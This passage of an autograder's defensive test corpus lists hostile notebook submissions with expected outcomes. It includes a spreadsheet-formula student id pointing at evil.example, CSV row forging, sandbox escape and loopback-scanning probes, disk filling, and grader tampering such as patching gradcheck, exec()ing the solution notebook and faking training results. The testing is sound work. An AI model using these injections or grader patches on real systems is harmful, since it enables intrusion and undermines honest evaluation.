        _symlink_to_source,
        0,
        log="is a symbolic link",
    ),
    Case(
        "hardlink-to-source",
        M1,
        "the notebook is a hard link to a copy of the instructor's notebook",
        _hardlink_to_source,
        0,
        log="is a hard link",
    ),
    Case(
        "linked-folder",
        M1,
        "the mission folder is a symbolic link to another hand-in",
        _linked_folder,
        0,
        log="is a symbolic link",
    ),
    # ---- one file must not stop the batch (class 6)
    Case(
        "deeply-nested",
        M2,
        "JSON nested 100,000 levels deep (RecursionError)",
        _deeply_nested,
        0,
        log="nests lists or objects too deeply",
    ),
    Case(
        "metadata-wrong-type",
        M1,
        "a grade id that is a list and nbgrader metadata that is a string",
        _simple(M1, "partial", _metadata_of_wrong_type),
        P1,
    ),
    # ---- hostile student ids (class 8)
    Case(
        "id-forges-rows",
        M1,
        "a student id with newlines that forge a CSV row and a log line",
        _simple(M1, "blank"),
        None,
        log="not a valid student id",
        student=FORGED_ROW,
    ),
    Case(
        "id-wildcard",
        M1,
        "the student id `*` (nbgrader's wildcard: every student)",
        _simple(M1, "blank"),
        None,
        log="not a valid student id",
        student="*",
    ),
    Case(
        "id-formula",
        M1,
        "a student id that is a spreadsheet formula",
        _simple(M1, "blank"),
        None,
        log="not a valid student id",
        student='=HYPERLINK("evil.example","10")',
    ),
    # ---- the sandbox as root, the network, the disk
    Case(
        "privilege-probe",
        M1,
        "reads its uid and capabilities, tries a nested user namespace",
        _simple(M1, "partial", lambda nb: _append_to(nb, "train_base_model", STATUS_PROBE)),
        P1,
    ),
    Case(
        "remounts-read-only-code",
        M4,
        "remounts helpers/, nbgrader and /usr writable",
        _simple(M4, "partial", lambda nb: _prepend_to(nb, "train_mnist", REMOUNT)),
        P4,
    ),
    Case(
        "loopback-scan",
        M1,
        "lists the ports listening on loopback and connects to each",
        _simple(M1, "partial", lambda nb: _append_to(nb, "train_base_model", LOOPBACK)),
        P1,
    ),
    Case(
        "iopub-snoop",
        M2,
        "subscribes to every loopback port to read other kernels' output",
        _simple(
            M2, "partial", lambda nb: _prepend_to(nb, "train_with_early_stopping", IOPUB_SNOOP)
        ),
        P2,
    ),
    Case(
        "port-hog",
        M1,
        "holds every ephemeral loopback port for 20 s",
        _simple(M1, "partial", lambda nb: _append_to(nb, "train_base_model", PORT_HOG)),
        P1,
    ),
    Case(
        "fills-workdir",
        M1,
        "writes 3 x 400 MiB next to its notebook",
        _simple(M1, "partial", lambda nb: _append_to(nb, "train_base_model", FILL_WORKDIR)),
        P1,
    ),
    # ---- NumPy backprop (mission 5)
    Case(
        "m5-numeric-gradient-backward",
        M5,
        "affine_backward returns finite-difference "
        "gradients computed with helpers.gradcheck: right values, no backprop (affine lost)",
        _simple(M5, "partial", lambda nb: _append_to(nb, "affine_layer", M5_NUMERIC_BACKWARD)),
        P5 - 3,
    ),
    Case(
        "m5-patches-gradcheck",
        M5,
        "a partial answer also replaces helpers.gradcheck's "
        "functions and np.allclose so that every check passes",
        _simple(M5, "partial", lambda nb: _append_to(nb, "affine_layer", M5_PATCHES_GRADCHECK)),
        0,
        log="replaces gradcheck.norm_relative_error",
    ),
    Case(
        "m5-hidden-patch-of-checks",
        M5,
        "a partial answer also replaces the affine check "
        "and its error measure through a name no scan follows (the kernel guard notices)",
        _simple(M5, "partial", lambda nb: _append_to(nb, "affine_layer", M5_HIDDEN_PATCH)),
        0,
        log="helpers.backprop_diagnosis",
    ),
    Case(
        "m5-runs-solution-notebook",
        M5,
        "reads the instructor's notebook and exec()s its "
        "answers (the sandbox hides it; exec is flagged)",
        _simple(M5, "blank", lambda nb: _append_to(nb, "affine_layer", M5_RUNS_SOLUTION)),
        0,
        log="calls exec()",
    ),
    Case(
        "m5-imports-solution",
        M5,
        "imports the solution as a module with importlib",
        _simple(M5, "blank", lambda nb: _append_to(nb, "affine_layer", M5_IMPORTS_SOLUTION)),
        0,
        log="imports importlib",
    ),
    Case(
        "m5-fake-training",
        M5,
        "the training function returns untrained parameters, prints "
        "a fake accuracy and a loss history that looks right (accuracy lost)",
        _simple(M5, "partial", lambda nb: _append_to(nb, "train_two_layer_net", M5_FAKE_TRAINING)),
        P5,
    ),
    Case(
        "m5-writes-past-budget-via-stdio",
        M5,
        "writes 64 MiB to the kernel's own stdout and stderr (outside the sandbox were they "
        "the grading job's output file)",
        _simple(M5, "partial", lambda nb: _append_to(nb, "affine_layer", M5_WRITES_PAST_BUDGET)),
        P5,
    ),
    Case(
        "m5-display-update-past-cap",
        M5,
        "rewrites a small output in place with 40 MiB (update_display_data)",
        _simple(M5, "partial", lambda nb: _append_to(nb, "affine_layer", M5_DISPLAY_UPDATE)),
        P5,
    ),
    Case(
        "m5-many-cells-of-output",
        M5,
        "adds 12 cells that each display just under the per-cell cap (24 MiB in all)",
        _simple(M5, "partial", _many_big_cells),
        P5,
    ),
    Case(
        "fills-scratch",
        M4,
        "writes 1.5 GiB to /tmp, 256 MiB to /dev/shm and 32 MiB to /",
        _simple(M4, "partial", lambda nb: _prepend_to(nb, "train_mnist", FILL_SCRATCH)),
        P4,
    ),
]


def write_corpus(folder: Path, cases=CASES) -> None:
    for case in cases:
        case.build(folder / case.student_id / case.mission)
